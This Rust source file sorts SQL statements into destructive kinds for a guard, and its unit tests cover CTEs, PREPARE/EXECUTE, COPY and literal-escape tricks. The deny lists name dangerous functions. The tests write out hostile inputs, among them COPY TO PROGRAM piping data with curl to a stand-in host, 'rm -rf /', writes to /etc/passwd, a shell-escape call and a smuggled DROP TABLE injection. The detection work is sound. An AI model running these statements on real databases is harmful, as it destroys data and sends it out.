//! Classifies one SQL statement: does it destroy, and how?
//!
//! Cheap first: the statement's tokens (outside literals and comments) are scanned
//! once. Most statements have no destroy-capable keyword and are allowed without
//! parsing; a leading `DROP`/`TRUNCATE`/`DO`/`CALL` decides on its own (`sqlparser`
//! rejects `DROP OWNED`, `DROP DATABASE … WITH (FORCE)` and `DO`, and these need no
//! more reading). The rest go to `sqlparser` with the client's dialect, and the AST is
//! walked: CTEs (`WITH d AS (DELETE …) SELECT …`), `WHERE` tautologies, `ALTER TABLE`
//! operations, `COPY` targets, `PREPARE`d bodies, `EXPLAIN ANALYZE`, trigger and rule
//! bodies. A statement with a destroy-capable keyword that does not parse is
//! `unparsed`: never allowed.

use super::findings::Findings;
use super::kind::{self, stronger};
use super::lexer::{Dialect, Kind, Token, is_ident_byte, opaque_at_other_setting, tokens};
use super::tautology::{Scope, where_scope};
use sqlparser::ast::{
    AlterTableOperation, CopyTarget, CreateRuleAction, Delete, Merge, MergeAction, MergeClauseKind, Query, SetExpr,
    Statement, Update,
};
use sqlparser::dialect::{Dialect as ParserDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect};
use sqlparser::parser::Parser;
use std::collections::HashSet;

/// Statements with more tokens than this are not parsed: a long operator chain makes a
/// deep AST, and dropping a deep AST recurses (measured: 40k levels overflow a 2 MiB
/// stack). Such a statement, if it has a destroy-capable keyword, is `unparsed`.
const MAX_PARSE_TOKENS: usize = 12_000;
/// `PREPARE s FROM '…'` nesting read.
const MAX_NESTING: usize = 4;

/// Keywords that can start or hide a destroying statement, wherever they appear.
/// `ALTER` is not one: the destroying forms all contain `DROP`, `TRUNCATE` or
/// `DISCARD`, and the rest (`ALTER SEQUENCE … OWNED BY`, `… OWNER TO`) are harmless.
const DESTROY_WORDS: &[&str] = &[
    "DROP", "TRUNCATE", "DELETE", "UPDATE", "EXECUTE", "EXEC", "PREPARE", "COPY", "CALL", "MERGE", "KILL", "SHUTDOWN",
    "DISCARD",
];

/// Functions that destroy or escape, found by name before `(` (also schema-qualified
/// or quoted): `SELECT pg_terminate_backend(pid) …` parses as a harmless query.
const FUNCTIONS: &[(&str, &str)] = &[
    ("pg_terminate_backend", kind::DISRUPT),
    ("lo_unlink", kind::DROP),
    ("pg_drop_replication_slot", kind::DROP),
    ("dblink_exec", kind::DYNAMIC),
    ("dblink", kind::DYNAMIC),
    ("query_to_xml", kind::DYNAMIC),
    ("query_to_xml_and_xmlschema", kind::DYNAMIC),
    ("lo_export", kind::SERVER_FILE),
    ("pg_file_write", kind::SERVER_FILE),
    ("pg_file_unlink", kind::SERVER_FILE),
    ("pg_file_rename", kind::SERVER_FILE),
    ("load_extension", kind::SHELL_ESCAPE),
    ("sys_exec", kind::SHELL_ESCAPE),
    ("sys_eval", kind::SHELL_ESCAPE),
];

/// sqlite3's `edit(text, editor)` runs a program; elsewhere `edit` is just a name.
const SQLITE_FUNCTIONS: &[(&str, &str)] = &[("edit", kind::SHELL_ESCAPE)];

/// Judges the statements of one client session, remembering what it has seen
/// (`PREPARE`d names) across statements.
pub struct Judge {
    pub dialect: Dialect,
    /// Prepared statements seen in this session whose body destroys nothing.
    harmless_prepared: HashSet<String>,
}

impl Judge {
    pub fn new(dialect: Dialect) -> Judge {
        Judge { dialect, harmless_prepared: HashSet::new() }
    }

    /// Judges one statement and records it in `out` if it destroys.
    pub fn statement(&mut self, text: &str, out: &mut Findings) {
        if out.exhausted() || text.trim().is_empty() || !out.count_statement() {
            return;
        }
        if let Some(k) = self.classify(text, out, 0) {
            out.add(k, text);
        }
    }

    /// The statement's kind, or None when it destroys nothing.
    pub fn classify(&mut self, text: &str, out: &mut Findings, nesting: usize) -> Option<&'static str> {
        let scan = Scan::of(self.dialect, text);
        if scan.ambiguous_literal && other_setting_splits_off_destroyer(self.dialect, text) {
            return Some(kind::UNPARSED);
        }
        if let Some(decided) = self.by_leading_words(&scan, text, out, nesting) {
            return stronger(decided, scan.function_kind);
        }
        if !scan.destroy_word {
            return scan.function_kind;
        }
        let parsed = if scan.tokens > MAX_PARSE_TOKENS {
            Some(kind::UNPARSED)
        } else if !out.count_parse() {
            None // the exhausted budget is already reported
        } else {
            self.parse_and_walk(text)
        };
        stronger(parsed, scan.function_kind)
    }

    /// Statements decided by how they start. `Some(None)`: decided, harmless.
    fn by_leading_words(
        &mut self,
        scan: &Scan,
        text: &str,
        out: &mut Findings,
        nesting: usize,
    ) -> Option<Option<&'static str>> {
        let first = scan.first?;
        let second_is = |w: &str| scan.second.is_some_and(|t| t.is_word(w));
        let mysql = self.dialect == Dialect::MySql;
        if first.is_word("DROP") {
            // MySQL `DROP PREPARE s` only forgets a prepared statement
            return Some(if mysql && second_is("PREPARE") { None } else { Some(kind::DROP) });
        }
        if first.is_word("TRUNCATE") {
            return Some(Some(kind::TRUNCATE));
        }
        if first.is_word("CALL") || (first.is_word("DO") && self.dialect == Dialect::Postgres) {
            return Some(Some(kind::DYNAMIC));
        }
        if mysql && first.is_word("SHUTDOWN") {
            return Some(Some(kind::DISRUPT));
        }
        if mysql && first.is_word("PREPARE") {
            return Some(self.mysql_prepare(text, out, nesting));
        }
        if scan.routine {
            // CREATE FUNCTION/PROCEDURE stores code; running it (CALL) is judged then
            return Some(None);
        }
        None
    }

    /// MySQL `PREPARE name FROM 'text'` (the text is judged as a statement) or
    /// `FROM @var` (built at run time: dynamic).
    fn mysql_prepare(&mut self, text: &str, out: &mut Findings, nesting: usize) -> Option<&'static str> {
        let toks: Vec<Token> = tokens(Dialect::MySql, text).take(8).collect();
        let name = toks.get(1).and_then(|t| t.name()).map(str::to_ascii_lowercase);
        let from = toks.iter().position(|t| t.is_word("FROM"));
        let source = from.and_then(|i| toks.get(i + 1));
        let body = match source {
            Some(Token { kind: Kind::Str { ambiguous: false }, text }) => mysql_unescape(text),
            _ => return Some(kind::DYNAMIC),
        };
        if nesting >= MAX_NESTING {
            return Some(kind::UNPARSED);
        }
        let found = self.classify(&body, out, nesting + 1);
        if found.is_none()
            && let Some(n) = name
        {
            self.harmless_prepared.insert(n);
        }
        found
    }

    fn parse_and_walk(&mut self, text: &str) -> Option<&'static str> {
        let dialect: &dyn ParserDialect = match self.dialect {
            Dialect::Postgres => &PostgreSqlDialect {},
            Dialect::MySql => &MySqlDialect {},
            Dialect::Sqlite => &SQLiteDialect {},
        };
        let parsed = Parser::new(dialect).try_with_sql(text).and_then(|mut p| p.parse_statements());
        match parsed {
            Err(_) => Some(kind::UNPARSED),
            Ok(stmts) => stmts.iter().fold(None, |acc, s| stronger(acc, self.statement_kind(s))),
        }
    }

    fn statement_kind(&mut self, s: &Statement) -> Option<&'static str> {
        match s {
            Statement::Drop { .. }
            | Statement::DropFunction(_)
            | Statement::DropDomain(_)
            | Statement::DropProcedure { .. }
            | Statement::DropSecret { .. }
            | Statement::DropPolicy(_)
            | Statement::DropRule(_)
            | Statement::DropConnector { .. }
            | Statement::DropExtension(_)
            | Statement::DropOperator(_)
            | Statement::DropOperatorFamily(_)
            | Statement::DropOperatorClass(_)
            | Statement::DropTrigger(_) => Some(kind::DROP),
            Statement::Truncate(_) => Some(kind::TRUNCATE),
            Statement::Delete(d) => delete_kind(d),
            Statement::Update(u) => update_kind(u),
            Statement::Merge(m) => merge_kind(m),
            Statement::AlterTable(a) => a.operations.iter().any(drops_something).then_some(kind::ALTER_DROP),
            Statement::Copy { to, target, .. } => copy_kind(*to, target),
            Statement::Query(q) => self.query_kind(q),
            Statement::Insert(i) => i.source.as_deref().and_then(|q| self.query_kind(q)),
            Statement::CreateTable(c) => c.query.as_deref().and_then(|q| self.query_kind(q)),
            Statement::Prepare { name, statement, .. } => self.prepared(&name.value, statement),
            Statement::Execute { name, .. } => self.execute_kind(name.as_ref().map(|n| n.to_string())),
            Statement::Call(_) => Some(kind::DYNAMIC),
            Statement::Kill { .. } => Some(kind::DISRUPT),
            Statement::Explain { analyze: true, statement, .. } => self.statement_kind(statement),
            Statement::CreateTrigger(t) => t.statements.as_ref().and_then(|b| self.all_kinds(b.statements())),
            Statement::CreateRule(r) => match &r.action {
                CreateRuleAction::Nothing => None,
                CreateRuleAction::Statement(s) => self.statement_kind(s),
                CreateRuleAction::Statements(v) => self.all_kinds(v),
            },
            _ => None,
        }
    }

    fn all_kinds(&mut self, stmts: &[Statement]) -> Option<&'static str> {
        stmts.iter().fold(None, |acc, s| stronger(acc, self.statement_kind(s)))
    }

    /// A query destroys through its CTEs (`WITH d AS (DELETE …)`) or a data-modifying
    /// body; set operations and subqueries in the body are walked too.
    fn query_kind(&mut self, q: &Query) -> Option<&'static str> {
        let mut found = None;
        if let Some(with) = &q.with {
            for cte in with.cte_tables.iter() {
                found = stronger(found, self.query_kind(&cte.query));
            }
        }
        stronger(found, self.set_expr_kind(&q.body))
    }

    /// A query body; `UNION` chains are left-deep trees as long as the statement, so
    /// they are walked with an explicit stack.
    fn set_expr_kind(&mut self, body: &SetExpr) -> Option<&'static str> {
        let mut found = None;
        let mut stack = vec![body];
        while let Some(e) = stack.pop() {
            let here = match e {
                SetExpr::SetOperation { left, right, .. } => {
                    stack.push(right);
                    stack.push(left);
                    None
                }
                SetExpr::Query(q) => self.query_kind(q),
                SetExpr::Insert(s) | SetExpr::Update(s) | SetExpr::Delete(s) | SetExpr::Merge(s) => {
                    self.statement_kind(s)
                }
                _ => None,
            };
            found = stronger(found, here);
        }
        found
    }

    /// `PREPARE name AS body`: the body's kind; a harmless body may be executed later.
    fn prepared(&mut self, name: &str, body: &Statement) -> Option<&'static str> {
        let found = self.statement_kind(body);
        if found.is_none() {
            self.harmless_prepared.insert(name.to_ascii_lowercase());
        }
        found
    }

    /// `EXECUTE name`: harmless only when this session prepared it in view.
    fn execute_kind(&self, name: Option<String>) -> Option<&'static str> {
        match name {
            Some(n) if self.harmless_prepared.contains(&n.to_ascii_lowercase()) => None,
            _ => Some(kind::DYNAMIC),
        }
    }
}

fn delete_kind(d: &Delete) -> Option<&'static str> {
    scope_kind(where_scope(d.selection.as_ref()), kind::DELETE_ALL)
}

fn update_kind(u: &Update) -> Option<&'static str> {
    scope_kind(where_scope(u.selection.as_ref()), kind::UPDATE_ALL)
}

fn scope_kind(scope: Scope, all: &'static str) -> Option<&'static str> {
    match scope {
        Scope::Scoped => None,
        Scope::All => Some(all),
        Scope::Unreadable => Some(kind::UNPARSED),
    }
}

fn merge_kind(m: &Merge) -> Option<&'static str> {
    let everything = where_scope(Some(&m.on)) == Scope::All;
    m.clauses.iter().fold(None, |acc, clause| {
        let unscoped = everything || clause.clause_kind == MergeClauseKind::NotMatchedBySource;
        let this = match &clause.action {
            MergeAction::Delete { .. } if unscoped && clause.predicate.is_none() => Some(kind::DELETE_ALL),
            MergeAction::Update(_) if unscoped && clause.predicate.is_none() => Some(kind::UPDATE_ALL),
            _ => None,
        };
        stronger(acc, this)
    })
}

fn drops_something(op: &AlterTableOperation) -> bool {
    matches!(
        op,
        AlterTableOperation::DropConstraint { .. }
            | AlterTableOperation::DropColumn { .. }
            | AlterTableOperation::DropPrimaryKey { .. }
            | AlterTableOperation::DropForeignKey { .. }
            | AlterTableOperation::DropIndex { .. }
            | AlterTableOperation::DropPartitions { .. }
            | AlterTableOperation::DropProjection { .. }
            | AlterTableOperation::DropClusteringKey
            | AlterTableOperation::ClearProjection { .. }
    )
}

fn copy_kind(to: bool, target: &CopyTarget) -> Option<&'static str> {
    match target {
        CopyTarget::Program { .. } => Some(kind::COPY_PROGRAM),
        CopyTarget::File { .. } if to => Some(kind::SERVER_FILE),
        _ => None,
    }
}

/// The contents of a MySQL string literal with its escapes applied (`\'`, `''`, `\n`…).
fn mysql_unescape(inside: &str) -> String {
    let mut out = String::with_capacity(inside.len());
    let mut chars = inside.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('r') => out.push('\r'),
                Some('0') => out.push('\0'),
                Some(other) => out.push(other),
                None => {}
            },
            '\'' | '"' if chars.peek() == Some(&c) => {
                chars.next();
                out.push(c);
            }
            other => out.push(other),
        }
    }
    out
}

/// What one pass over a statement's tokens found.
#[derive(Debug, Default)]
struct Scan<'a> {
    first: Option<Token<'a>>,
    second: Option<Token<'a>>,
    tokens: usize,
    /// A destroy-capable keyword outside literals and comments.
    destroy_word: bool,
    /// The strongest kind among destroying function calls.
    function_kind: Option<&'static str>,
    /// A literal that another server setting would end elsewhere.
    ambiguous_literal: bool,
    /// `CREATE [OR REPLACE] … FUNCTION|PROCEDURE`: stores code, runs nothing.
    routine: bool,
}

impl<'a> Scan<'a> {
    fn of(dialect: Dialect, text: &'a str) -> Scan<'a> {
        let mut scan = Scan::default();
        let mut prev: Option<Token<'a>> = None;
        let mut create_object_seen = false;
        for t in tokens(dialect, text) {
            scan.tokens += 1;
            match scan.tokens {
                1 => scan.first = Some(t),
                2 => scan.second = Some(t),
                _ => {}
            }
            scan.note(dialect, t, prev);
            if scan.first.is_some_and(|f| f.is_word("CREATE")) && !create_object_seen {
                create_object_seen = scan.note_created_object(t);
            }
            prev = Some(t);
        }
        scan
    }

    fn note(&mut self, dialect: Dialect, t: Token<'a>, prev: Option<Token<'a>>) {
        match t.kind {
            Kind::Word if is_destroy_word(t.text) => self.destroy_word = true,
            Kind::Str { ambiguous: true } => self.ambiguous_literal = true,
            Kind::Punct if t.text == "(" => {
                if let Some(name) = prev.and_then(|p| p.name()) {
                    self.function_kind = stronger(self.function_kind, function_kind(dialect, name));
                }
            }
            _ => {}
        }
    }

    /// The object type after `CREATE` (skipping `OR REPLACE`, `DEFINER = …`,
    /// `TEMPORARY`, `AGGREGATE`…). Returns true once it is known.
    fn note_created_object(&mut self, t: Token<'a>) -> bool {
        const OBJECTS: &[&str] = &[
            "TABLE",
            "VIEW",
            "INDEX",
            "TRIGGER",
            "EVENT",
            "RULE",
            "SCHEMA",
            "DATABASE",
            "SEQUENCE",
            "TYPE",
            "ROLE",
            "USER",
            "POLICY",
            "EXTENSION",
            "DOMAIN",
            "MATERIALIZED",
            "AS",
            "SELECT",
        ];
        if t.is_word("FUNCTION") || t.is_word("PROCEDURE") {
            self.routine = true;
            return true;
        }
        OBJECTS.iter().any(|o| t.is_word(o))
    }
}

/// Whether `text` has a destroy-capable keyword outside literals and comments.
pub fn has_destroy_word(dialect: Dialect, text: &str) -> bool {
    tokens(dialect, text).any(|t| t.kind == Kind::Word && is_destroy_word(t.text))
}

fn is_destroy_word(word: &str) -> bool {
    word.len() <= 8 && DESTROY_WORDS.iter().any(|k| k.eq_ignore_ascii_case(word))
}

/// Read with the other backslash setting, does a `;` that guard saw inside a literal
/// split off a statement with a destroy-capable keyword? (`SELECT 'a\'; DROP TABLE
/// x; -- '` is one harmless literal to guard, and a `DROP` to a server running with
/// `NO_BACKSLASH_ESCAPES`.) Apostrophes in data (`'Don\'t delete'`) split nothing.
fn other_setting_splits_off_destroyer(dialect: Dialect, text: &str) -> bool {
    let b = text.as_bytes();
    let mut split = false;
    let mut i = 0;
    while i < b.len() {
        if let Some((end, _)) = opaque_at_other_setting(dialect, b, i) {
            i = end;
        } else if b[i] == b';' {
            split = true;
            i += 1;
        } else if is_ident_byte(b[i]) {
            let start = i;
            while i < b.len() && is_ident_byte(b[i]) {
                i += 1;
            }
            if split && text.get(start..i).is_some_and(is_destroy_word) {
                return true;
            }
        } else {
            i += 1;
        }
    }
    false
}

fn function_kind(dialect: Dialect, name: &str) -> Option<&'static str> {
    let extra: &[(&str, &str)] = if dialect == Dialect::Sqlite { SQLITE_FUNCTIONS } else { &[] };
    FUNCTIONS.iter().chain(extra.iter()).find(|(f, _)| f.eq_ignore_ascii_case(name)).map(|(_, k)| *k)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(d: Dialect, sql: &str) -> Option<&'static str> {
        let mut out = Findings::new("test");
        Judge::new(d).classify(sql, &mut out, 0)
    }

    fn pg(sql: &str) -> Option<&'static str> {
        judge(Dialect::Postgres, sql)
    }

    #[test]
    fn drops_of_every_object() {
        for s in [
            "DROP TABLE users",
            "drop table if exists a, b cascade",
            "DROP DATABASE prod WITH (FORCE)",
            "DROP SCHEMA public CASCADE",
            "DROP OWNED BY bob",
            "DROP ROLE bob",
            "DROP USER bob",
            "DROP FUNCTION f(int)",
            "DROP INDEX i",
            "DROP VIEW v",
            "/* c */ DrOp /* x */ TaBlE t",
            "SELECT lo_unlink(16384)",
        ] {
            assert_eq!(pg(s), Some(kind::DROP), "{s}");
        }
    }

    #[test]
    fn deletes_and_updates_without_a_real_where() {
        assert_eq!(pg("DELETE FROM users"), Some(kind::DELETE_ALL));
        assert_eq!(pg("DELETE FROM users WHERE 1=1"), Some(kind::DELETE_ALL));
        assert_eq!(pg("DELETE FROM users WHERE true"), Some(kind::DELETE_ALL));
        assert_eq!(pg("DELETE FROM users WHERE id = 5 OR 1=1"), Some(kind::DELETE_ALL));
        assert_eq!(pg("UPDATE users SET admin = true"), Some(kind::UPDATE_ALL));
        assert_eq!(pg("UPDATE users SET admin = true WHERE 'a' = 'a'"), Some(kind::UPDATE_ALL));
        assert_eq!(pg("DELETE FROM users WHERE id = 5"), None);
        assert_eq!(pg("UPDATE users SET name = 'x' WHERE id = $1"), None);
        assert_eq!(judge(Dialect::MySql, "DELETE FROM t WHERE 1"), Some(kind::DELETE_ALL));
        assert_eq!(judge(Dialect::Sqlite, "DELETE FROM t"), Some(kind::DELETE_ALL));
    }

    #[test]
    fn ctes_explain_analyze_and_prepare_are_walked() {
        assert_eq!(pg("WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d"), Some(kind::DELETE_ALL));
        assert_eq!(pg("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d"), None);
        assert_eq!(pg("INSERT INTO log WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"), Some(kind::DELETE_ALL));
        assert_eq!(pg("EXPLAIN ANALYZE DELETE FROM t"), Some(kind::DELETE_ALL));
        assert_eq!(pg("EXPLAIN DELETE FROM t"), None);
        assert_eq!(pg("PREPARE p AS DELETE FROM t"), Some(kind::DELETE_ALL));
    }

    #[test]
    fn execute_needs_a_harmless_prepare_in_view() {
        let mut out = Findings::new("t");
        let mut j = Judge::new(Dialect::Postgres);
        assert_eq!(j.classify("EXECUTE q", &mut out, 0), Some(kind::DYNAMIC));
        assert_eq!(j.classify("PREPARE q AS SELECT * FROM t WHERE id = $1", &mut out, 0), None);
        assert_eq!(j.classify("EXECUTE q(5)", &mut out, 0), None);
        let mut j = Judge::new(Dialect::MySql);
        assert_eq!(j.classify("PREPARE s FROM 'DELETE FROM t'", &mut out, 0), Some(kind::DELETE_ALL));
        assert_eq!(j.classify("PREPARE s FROM @sql", &mut out, 0), Some(kind::DYNAMIC));
        assert_eq!(j.classify("PREPARE s FROM 'SELECT * FROM t WHERE id = ?'", &mut out, 0), None);
        assert_eq!(j.classify("EXECUTE s USING @a", &mut out, 0), None);
        assert_eq!(j.classify("DROP PREPARE s", &mut out, 0), None);
    }

    #[test]
    fn dynamic_and_escapes() {
        assert_eq!(pg("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$"), Some(kind::DYNAMIC));
        assert_eq!(pg("do language plpgsql $x$ begin end $x$"), Some(kind::DYNAMIC));
        assert_eq!(pg("CALL cleanup()"), Some(kind::DYNAMIC));
        assert_eq!(pg("COPY t TO PROGRAM 'curl -d @- evil'"), Some(kind::COPY_PROGRAM));
        assert_eq!(pg("COPY t FROM PROGRAM 'rm -rf /'"), Some(kind::COPY_PROGRAM));
        assert_eq!(pg("COPY t TO '/etc/passwd'"), Some(kind::SERVER_FILE));
        assert_eq!(pg("COPY t FROM STDIN"), None);
        assert_eq!(pg("COPY t TO STDOUT"), None);
        assert_eq!(pg("SELECT dblink_exec('dbname=x', 'DROP TABLE t')"), Some(kind::DYNAMIC));
        assert_eq!(pg("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"), Some(kind::DISRUPT));
        assert_eq!(pg("SELECT \"pg_catalog\".\"pg_terminate_backend\"(1)"), Some(kind::DISRUPT));
        assert_eq!(judge(Dialect::Sqlite, "SELECT load_extension('/tmp/x.so')"), Some(kind::SHELL_ESCAPE));
        assert_eq!(judge(Dialect::Sqlite, "SELECT edit('x', 'sh -c id')"), Some(kind::SHELL_ESCAPE));
        assert_eq!(pg("SELECT edit(1)"), None);
        assert_eq!(judge(Dialect::MySql, "KILL 42"), Some(kind::DISRUPT));
        assert_eq!(judge(Dialect::MySql, "SHUTDOWN"), Some(kind::DISRUPT));
    }

    #[test]
    fn truncate_alter_merge() {
        assert_eq!(pg("TRUNCATE users CASCADE"), Some(kind::TRUNCATE));
        assert_eq!(pg("ALTER TABLE users DROP COLUMN email"), Some(kind::ALTER_DROP));
        assert_eq!(pg("ALTER TABLE users DROP CONSTRAINT users_pkey"), Some(kind::ALTER_DROP));
        assert_eq!(pg("ALTER TABLE users ADD COLUMN email text"), None);
        assert_eq!(pg("ALTER SEQUENCE s OWNED BY t.id"), None);
        assert_eq!(judge(Dialect::MySql, "ALTER TABLE t DISCARD TABLESPACE"), Some(kind::UNPARSED));
        assert_eq!(
            pg("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE"),
            Some(kind::DELETE_ALL)
        );
        assert_eq!(pg("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"), None);
    }

    #[test]
    fn look_alikes_stay_allowed() {
        for s in [
            "SELECT 'DROP TABLE users'",
            "SELECT $$DELETE FROM users$$",
            "SELECT 1 -- DROP TABLE users",
            "SELECT * FROM t /* TRUNCATE t */",
            "SELECT \"drop\" FROM t",
            "SELECT 1 AS drop",
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2",
            "SELECT * FROM t FOR UPDATE",
            "GRANT SELECT, UPDATE, DELETE ON t TO bob",
            "CREATE TABLE t (a int REFERENCES y ON DELETE CASCADE)",
            "CREATE TRIGGER t AFTER UPDATE ON x FOR EACH ROW EXECUTE FUNCTION f()",
            "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql",
            "ALTER TABLE ONLY public.x OWNER TO bob",
            "DISCARD ALL",
            "",
            "-- only a comment",
        ] {
            assert_eq!(pg(s), None, "{s}");
        }
        assert_eq!(judge(Dialect::MySql, "CREATE PROCEDURE p() BEGIN DELETE FROM t; END"), None);
    }

    #[test]
    fn unparsable_destroyers_are_never_allowed() {
        assert_eq!(pg("DELETE FROM :tbl"), Some(kind::UNPARSED));
        assert_eq!(pg("DELETE FROM t WHERE :'x' = 1"), Some(kind::UNPARSED));
        assert_eq!(pg("UPDATE t SET"), Some(kind::UNPARSED));
        // a literal that `standard_conforming_strings = off` would end early
        assert_eq!(pg("SELECT 'a\\''; DROP TABLE x; --'"), Some(kind::UNPARSED));
        assert_eq!(judge(Dialect::MySql, "SELECT 'a\\'; DROP TABLE x; -- '"), Some(kind::UNPARSED));
        // an escaped apostrophe in data is not that
        assert_eq!(judge(Dialect::MySql, "INSERT INTO t VALUES ('Don\\'t delete; ok')"), None);
        assert_eq!(pg("SELECT 'C:\\dir; drop zone'"), None);
        assert_eq!(judge(Dialect::MySql, "/*!50000 DROP TABLE x */"), Some(kind::DROP));
        assert_eq!(judge(Dialect::MySql, "SELECT 1 /*!50000 ; DELETE FROM t */"), Some(kind::DELETE_ALL));
    }

    #[test]
    fn triggers_and_rules_run_their_bodies_later() {
        assert_eq!(
            judge(Dialect::Sqlite, "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END"),
            Some(kind::DELETE_ALL)
        );
        assert_eq!(pg("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM x"), Some(kind::DELETE_ALL));
        assert_eq!(pg("CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING"), None);
    }

    #[test]
    fn huge_destroying_statements_are_not_parsed() {
        let mut s = String::from("DELETE FROM t WHERE a = 1");
        for _ in 0..MAX_PARSE_TOKENS {
            s.push_str(" OR a = 1");
        }
        assert_eq!(pg(&s), Some(kind::UNPARSED));
    }
}
